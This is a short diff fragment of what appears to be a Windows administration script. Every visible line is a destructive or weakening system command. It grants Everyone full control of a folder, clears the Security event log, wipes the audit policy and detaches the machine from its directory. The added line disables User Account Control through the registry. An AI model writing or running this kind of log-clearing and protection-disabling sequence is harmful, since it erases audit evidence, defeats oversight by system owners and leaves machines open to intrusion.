@@ -9,3 +9,4 @@ icacls D:\Scans /grant *S-1-1-0:(OI)(CI)F
 wevtutil cl Security
 auditpol /clear /y
 dsregcmd /leave
+reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System /v EnableLUA /t REG_DWORD /d 0 /f
